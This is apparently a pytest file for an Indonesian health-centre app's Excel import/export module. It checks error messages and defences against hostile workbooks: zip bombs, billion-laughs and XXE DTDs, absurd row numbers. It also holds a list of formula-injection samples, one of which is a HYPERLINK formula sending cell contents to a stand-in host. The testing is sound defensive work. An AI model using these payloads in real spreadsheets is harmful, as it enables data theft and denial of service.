"""The shared Excel reader: every problem reported with row and column, in Indonesian."""

import io
import json
import os
import subprocess
import sys
import time
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook, load_workbook

from puskesmas.alat import impor
from puskesmas.alat.impor import (
    BULAT,
    DESIMAL,
    PILIHAN,
    TANGGAL,
    Kolom,
    Templat,
    baca_xlsx,
    buat_xlsx,
)

from ..berkas_xlsx import (
    DTD_LAUGHS,
    DTD_XXE,
    NS,
    bom_sheet,
    bom_teks_bersama,
    sheet_xml,
)
from ..berkas_xlsx import xlsx as xlsx_tangan

TEMPLAT = Templat(
    judul="Uji",
    nama_sheet="Data",
    kolom=(
        Kolom("Kode", "kode"),
        Kolom("Jumlah", "jumlah", BULAT),
        Kolom("Anggaran (Rp)", "anggaran", DESIMAL),
        Kolom("Sumber", "sumber", PILIHAN, pilihan=("BOK", "APBD")),
        Kolom("Tanggal", "tanggal", TANGGAL, wajib=False),
    ),
)


def xlsx(rows, sheet="Data", header=None):
    wb = Workbook()
    ws = wb.active
    ws.title = sheet
    ws.append(header or [k.judul for k in TEMPLAT.kolom])
    for r in rows:
        ws.append(r)
    buf = io.BytesIO()
    wb.save(buf)
    return SimpleUploadedFile("uji.xlsx", buf.getvalue())


def teks(hasil):
    return [str(g) for g in hasil.galat]


@pytest.mark.parametrize(
    "mentah, angka",
    [
        ("1.500.000", Decimal(1500000)),
        ("Rp 1.500.000", Decimal(1500000)),
        ("12,5", Decimal("12.5")),
        ("12.5", Decimal("12.5")),
        ("3.000", Decimal(3000)),
        (2500, Decimal(2500)),
        (12.25, Decimal("12.25")),
        ("85%", Decimal(85)),
        ("sepuluh", None),
        (True, None),
    ],
)
def test_numbers_are_read_the_indonesian_way(mentah, angka):
    from puskesmas.alat.angka import baca_angka

    assert baca_angka(mentah) == angka


def test_a_valid_file_is_read(settings):
    hasil = baca_xlsx(
        xlsx(
            [["A1", 3, "1.500.000", "bok", "14/02/2027"], [None] * 5, ["A2", "4", 10, "APBD", None]]
        ),
        TEMPLAT,
    )
    assert hasil.sah, teks(hasil)
    assert [n for n, _ in hasil.baris] == [2, 4]
    assert hasil.baris[0][1] == {
        "kode": "A1",
        "jumlah": 3,
        "anggaran": Decimal(1500000),
        "sumber": "BOK",
        "tanggal": __import__("datetime").date(2027, 2, 14),
    }


def test_every_cell_error_is_reported_with_row_and_column():
    hasil = baca_xlsx(
        xlsx([["A1", "tiga", "sepuluh juta", "DAU", "kemarin"], [None, 2, -5, "BOK", None]]),
        TEMPLAT,
    )
    assert teks(hasil) == [
        "Baris 2, kolom «Jumlah»: «tiga» bukan angka. Isi dengan angka saja, misalnya 1500000 atau 12,5.",
        "Baris 2, kolom «Anggaran (Rp)»: «sepuluh juta» bukan angka. Isi dengan angka saja, misalnya 1500000 atau 12,5.",
        "Baris 2, kolom «Sumber»: «DAU» bukan pilihan yang sah. Pilihan: BOK, APBD.",
        "Baris 2, kolom «Tanggal»: «kemarin» bukan tanggal. Gunakan format HH/BB/TTTT, misalnya 14/02/2027.",
        "Baris 3, kolom «Kode»: Wajib diisi.",
        "Baris 3, kolom «Anggaran (Rp)»: Tidak boleh kurang dari 0.",
    ]


def test_wrong_sheet():
    hasil = baca_xlsx(xlsx([["A1", 1, 1, "BOK", None]], sheet="Sheet1"), TEMPLAT)
    assert teks(hasil) == [
        "Sheet «Data» tidak ditemukan. Sheet yang ada: Sheet1. Gunakan templat yang diunduh "
        "dari aplikasi dan jangan mengganti nama sheet."
    ]


def test_wrong_and_missing_columns():
    header = ["Kode", "Jumlah", "Anggaran", "Sumber", "Tanggal", "Catatan"]
    hasil = baca_xlsx(xlsx([["A1", 1, 1, "BOK", None, "x"]], header=header), TEMPLAT)
    assert any("kolom «Anggaran (Rp)»: Kolom ini tidak ditemukan" in t for t in teks(hasil))
    assert any("kolom «Catatan»: Kolom ini tidak dikenal" in t for t in teks(hasil))
    assert hasil.baris == []


def test_not_an_excel_file():
    hasil = baca_xlsx(SimpleUploadedFile("uji.xlsx", b"bukan excel"), TEMPLAT)
    assert "bukan file Excel (.xlsx)" in teks(hasil)[0]


def test_a_50_mb_file_is_refused_before_reading(settings):
    berkas = SimpleUploadedFile("besar.xlsx", b"0")
    berkas.size = 50 * 1024 * 1024
    hasil = baca_xlsx(berkas, TEMPLAT)
    assert teks(hasil) == [
        "Berkas terlalu besar (50,0 MB); batasnya 10,0 MB. Hapus baris atau sheet yang tidak "
        "perlu, atau bagi menjadi beberapa berkas."
    ]


def test_an_empty_template_is_reported():
    assert "tidak berisi data" in teks(baca_xlsx(xlsx([]), TEMPLAT))[0]


def test_the_template_round_trips():
    isi = buat_xlsx(TEMPLAT, [["A1", 2, Decimal("1500000"), "BOK", None]])
    hasil = baca_xlsx(SimpleUploadedFile("t.xlsx", isi), TEMPLAT)
    assert hasil.sah and hasil.baris[0][1]["anggaran"] == Decimal(1500000)


# --- Hostile files: every one is refused quickly, in Indonesian, with bounded memory ------

RUSAK = "Berkas Excel rusak atau tidak aman"


def unggahan(isi: bytes, nama="uji.xlsx"):
    return SimpleUploadedFile(nama, isi)


def judul_templat():
    return [k.judul for k in TEMPLAT.kolom]


def baris_sah(n):
    return ["A", n, 1000, "BOK", None]


def test_a_sheet_without_dimension_is_counted_and_stopped_at_the_limit():
    # 25,000 data rows and no <dimension>: the row limit still holds.
    sheet = sheet_xml([(1, judul_templat())] + [(n, baris_sah(n)) for n in range(2, 25_002)])
    isi = xlsx_tangan(sheet)
    assert len(isi) < 1024 * 1024
    hasil = baca_xlsx(unggahan(isi), TEMPLAT)
    assert teks(hasil) == [
        "Terlalu banyak baris data (lebih dari 20000); batasnya 20000. Bagi menjadi beberapa "
        "berkas."
    ]
    assert hasil.baris == []


def test_a_dimension_that_understates_the_rows_changes_nothing():
    sheet = sheet_xml(
        [(1, judul_templat())] + [(n, baris_sah(n)) for n in range(2, 20_003)], dimensi="A1:E2"
    )
    hasil = baca_xlsx(unggahan(xlsx_tangan(sheet)), TEMPLAT)
    assert "Terlalu banyak baris data" in teks(hasil)[0] and hasil.baris == []


def test_exactly_the_limit_is_read(monkeypatch):
    monkeypatch.setattr(impor, "BATAS_BARIS", 30)
    sheet = sheet_xml([(1, judul_templat())] + [(n, baris_sah(n)) for n in range(2, 32)])
    hasil = baca_xlsx(unggahan(xlsx_tangan(sheet)), TEMPLAT)
    assert hasil.sah and len(hasil.baris) == 30


def test_row_numbers_are_kept_across_a_gap_without_padding():
    # Excel's last row after row 2: read as two rows with their own numbers.
    sheet = sheet_xml([(1, judul_templat()), (2, baris_sah(2)), (1_048_576, baris_sah(9))])
    hasil = baca_xlsx(unggahan(xlsx_tangan(sheet)), TEMPLAT)
    assert hasil.sah, teks(hasil)
    assert [n for n, _ in hasil.baris] == [2, 1_048_576]


@pytest.mark.parametrize(
    "baris, alasan",
    [
        ([(2, ["A"]), (10**10, ["B"])], "nomor baris 10.000.000.000 di luar batas"),
        ([(5, ["A"]), (3, ["B"])], "baris 3 muncul setelah baris 5"),
    ],
)
def test_impossible_row_numbers_are_refused(baris, alasan):
    sheet = sheet_xml([(1, judul_templat()), *baris])
    hasil = baca_xlsx(unggahan(xlsx_tangan(sheet)), TEMPLAT)
    assert len(hasil.galat) == 1 and RUSAK in teks(hasil)[0] and alasan in teks(hasil)[0]
    assert hasil.baris == []


def test_a_cell_beyond_excel_columns_is_refused():
    sheet = sheet_xml([(1, judul_templat())]).replace(
        "</sheetData>", '<row r="2"><c r="ZZZZ2"><v>1</v></c></row></sheetData>'
    )
    hasil = baca_xlsx(unggahan(xlsx_tangan(sheet)), TEMPLAT)
    assert RUSAK in teks(hasil)[0] and "ZZZZ2" in teks(hasil)[0]


def test_a_zip_bomb_is_refused_before_it_is_unzipped():
    isi = xlsx_tangan(bom_sheet(200 * 1024 * 1024))
    assert len(isi) < 1024 * 1024  # 200 MB of XML in well under 1 MB
    mulai = time.monotonic()
    hasil = baca_xlsx(unggahan(isi), TEMPLAT)
    assert time.monotonic() - mulai < 2
    assert len(hasil.galat) == 1
    assert teks(hasil)[0].startswith(
        f"{RUSAK} (bagian xl/worksheets/sheet1.xml berukuran 200,0 MB setelah dibuka; "
        "batasnya 64,0 MB)."
    )


def test_a_part_compressed_a_thousand_times_is_refused():
    hasil = baca_xlsx(unggahan(xlsx_tangan(bom_sheet(5 * 1024 * 1024))), TEMPLAT)
    assert "dimampatkan lebih dari 100 kali lipat" in teks(hasil)[0]


def test_the_unzipped_total_is_bounded(monkeypatch):
    monkeypatch.setattr(impor, "MAKS_UKURAN_TOTAL", 1024 * 1024)
    tambahan = {f"xl/media/{i}.bin": os.urandom(300_000) for i in range(4)}
    hasil = baca_xlsx(unggahan(xlsx_tangan(sheet_xml([(1, ["Kode"])]), tambahan=tambahan)), TEMPLAT)
    assert "batasnya 1,0 MB" in teks(hasil)[0]


def test_too_many_parts_are_refused():
    tambahan = {f"xl/x{i}.txt": "" for i in range(300)}
    hasil = baca_xlsx(unggahan(xlsx_tangan(sheet_xml([(1, ["Kode"])]), tambahan=tambahan)), TEMPLAT)
    assert teks(hasil) == [
        f"{RUSAK} (berisi 305 bagian; batasnya 200). Buka berkas di Excel atau LibreOffice, "
        "salin datanya ke templat yang diunduh dari halaman ini, lalu simpan sebagai Excel "
        "Workbook (.xlsx)."
    ]


def test_too_many_shared_strings_are_refused(monkeypatch):
    monkeypatch.setattr(impor, "MAKS_STRING_BERSAMA", 1000)
    isi = xlsx_tangan(sheet_xml([(1, ["Kode"])]), shared_strings=bom_teks_bersama(2000))
    assert "lebih dari 1.000 teks bersama" in teks(baca_xlsx(unggahan(isi), TEMPLAT))[0]


@pytest.mark.parametrize(
    "bagian, isi",
    [
        ("sheet", DTD_XXE + sheet_xml([(1, ["&xxe;"])])),
        ("sheet", DTD_LAUGHS + sheet_xml([(1, ["&c;"])])),
        ("sheet", '<?xml version="1.0"?><!DOCTYPE worksheet>' + sheet_xml([(1, ["Kode"])])),
        ("sheet", sheet_xml([(1, ["Kode"])])[:-20]),
        ("sst", DTD_LAUGHS + f'<sst xmlns="{NS}"><si><t>&c;</t></si></sst>'),
        ("workbook", DTD_XXE + '<workbook xmlns="x">&xxe;</workbook>'),
        ("workbook", "<workbook><sheets>"),
    ],
)
def test_malformed_xml_or_a_dtd_is_refused_not_a_crash(bagian, isi):
    sheet = isi if bagian == "sheet" else sheet_xml([(1, ["Kode"])])
    berkas = xlsx_tangan(
        sheet,
        shared_strings=isi if bagian == "sst" else None,
        workbook=isi if bagian == "workbook" else None,
    )
    hasil = baca_xlsx(unggahan(berkas), TEMPLAT)
    assert len(hasil.galat) == 1 and teks(hasil)[0].startswith(RUSAK), teks(hasil)
    assert hasil.baris == []


def test_a_hand_written_workbook_with_shared_strings_is_read():
    sst = (
        f'<sst xmlns="{NS}"><si><t>Kode</t></si><si><t>Jumlah</t></si><si><t>Anggaran (Rp)</t>'
        "</si><si><t>Sumber</t></si><si><r><t>A</t></r><r><t>1</t></r></si></sst>"
    )
    judul = "".join(f'<c r="{c}1" t="s"><v>{i}</v></c>' for i, c in enumerate("ABCD"))
    sheet = (
        f'<worksheet xmlns="{NS}"><sheetData><row r="1">{judul}'
        '<c r="E1" t="inlineStr"><is><r><t>Tang</t></r><r><t>gal</t></r></is></c></row>'
        '<row r="3"><c r="A3" t="s"><v>4</v></c><c r="B3"><v>7</v></c><c r="C3"><v>2.5E3</v></c>'
        '<c r="D3" t="str"><f>"BOK"</f><v>BOK</v></c></row></sheetData></worksheet>'
    )
    hasil = baca_xlsx(unggahan(xlsx_tangan(sheet, shared_strings=sst)), TEMPLAT)
    assert hasil.sah, teks(hasil)
    assert hasil.baris == [
        (
            3,
            {
                "kode": "A1",
                "jumlah": 7,
                "anggaran": Decimal(2500),
                "sumber": "BOK",
                "tanggal": None,
            },
        )
    ]


def test_a_date_cell_is_read_as_a_date():
    tanggal = __import__("datetime").datetime(2027, 2, 14)
    hasil = baca_xlsx(xlsx([["A1", 1, 1, "BOK", tanggal]]), TEMPLAT)
    assert hasil.sah and hasil.baris[0][1]["tanggal"] == tanggal.date()


_UKUR = r"""
import json, resource, sys
import django
django.setup()
from puskesmas.alat.impor import baca_xlsx
from tests.puskesmas.test_impor import TEMPLAT

def pakai():
    r = resource.getrusage(resource.RUSAGE_SELF)
    return r.ru_maxrss, r.ru_utime + r.ru_stime

rss, cpu = pakai()
with open(sys.argv[1], "rb") as f:
    h = baca_xlsx(f, TEMPLAT)
rss2, cpu2 = pakai()
print(json.dumps({
    "cpu_detik": cpu2 - cpu,
    "rss_mb": (rss2 - rss) / 1024,
    "galat": [str(g) for g in h.galat],
    "baris": len(h.baris),
}))
"""


def test_hostile_files_end_quickly_with_bounded_memory(tmp_path):
    """Each file is read in a fresh process, so its peak RSS growth (ru_maxrss) and CPU time
    are its own; CPU time, not wall time, because the test machine's cores are shared.

    Before the hardening the row gap never ended and the bombs took gigabytes. Measured
    after it: the bombs and the gap are refused in milliseconds with no measurable growth;
    the 25,000 rows without a dimension take about 2 s of CPU (read up to the limit) and
    stay below the peak Django's own start-up reached."""
    berkas = {
        "bom": xlsx_tangan(bom_sheet(200 * 1024 * 1024)),
        "teks_bersama": xlsx_tangan(
            sheet_xml([(1, ["Kode"])]), shared_strings=bom_teks_bersama(3_000_000)
        ),
        "celah": xlsx_tangan(sheet_xml([(1, judul_templat()), (2, baris_sah(2)), (10**10, ["B"])])),
        "tanpa_dimensi": xlsx_tangan(
            sheet_xml([(1, judul_templat())] + [(n, baris_sah(n)) for n in range(2, 25_002)])
        ),
    }
    akar = Path(__file__).resolve().parents[2]
    ukur = {}
    for nama, isi in berkas.items():
        jalur = tmp_path / f"{nama}.xlsx"
        jalur.write_bytes(isi)
        keluaran = subprocess.run(
            [sys.executable, "-c", _UKUR, str(jalur)],
            cwd=akar,
            env={
                **os.environ,
                "PYTHONPATH": str(akar),
                "DJANGO_SETTINGS_MODULE": "puskesmas.settings.test",
            },
            capture_output=True,
            text=True,
            timeout=300,
            check=True,
        )
        ukur[nama] = json.loads(keluaran.stdout)
    for nama, u in ukur.items():
        assert u["cpu_detik"] < 10, (nama, u)
        assert u["rss_mb"] < 100, (nama, u)
        assert u["baris"] == 0 and len(u["galat"]) == 1, (nama, u)
    assert ukur["bom"]["galat"][0].startswith(RUSAK)
    assert (
        "teks bersama" in ukur["teks_bersama"]["galat"][0]
        or "kali lipat" in (ukur["teks_bersama"]["galat"][0])
    )
    assert "10.000.000.000" in ukur["celah"]["galat"][0]
    assert ukur["tanpa_dimensi"]["galat"][0].startswith("Terlalu banyak baris data")


BERBAHAYA = [
    '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")',
    "+1+2",
    "-3+4",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
]


def test_exported_texts_are_never_formulas():
    templat = Templat(
        judul="=1+1",
        nama_sheet="Data",
        kolom=(Kolom("=judul", "a"), Kolom("Angka", "b", BULAT), Kolom("Desimal", "c", DESIMAL)),
    )
    baris = [[t, 5, Decimal("2.5")] for t in BERBAHAYA]
    wb = load_workbook(io.BytesIO(buat_xlsx(templat, baris)))
    ws = wb["Data"]
    assert (ws["A1"].value, ws["A1"].data_type) == ("=judul", "s")
    for i, t in enumerate(BERBAHAYA, start=2):
        sel = ws.cell(row=i, column=1)
        # XML reads a raw CR back as LF; the point is the cell type.
        assert (sel.value, sel.data_type) == (t.replace("\r", "\n"), "s"), t
        assert sel.quotePrefix == (t[0] in "=+-@\t\r")
        assert (ws.cell(row=i, column=2).value, ws.cell(row=i, column=2).data_type) == (5, "n")
        assert (ws.cell(row=i, column=3).value, ws.cell(row=i, column=3).data_type) == (2.5, "n")
    assert (wb["Petunjuk"]["A1"].value, wb["Petunjuk"]["A1"].data_type) == ("=1+1", "s")


def test_exported_texts_round_trip_unchanged():
    isi = buat_xlsx(TEMPLAT, [[t, 1, 1, "BOK", None] for t in BERBAHAYA])
    hasil = baca_xlsx(SimpleUploadedFile("t.xlsx", isi), TEMPLAT)
    assert hasil.sah and [d["kode"] for _, d in hasil.baris] == [t.strip() for t in BERBAHAYA]
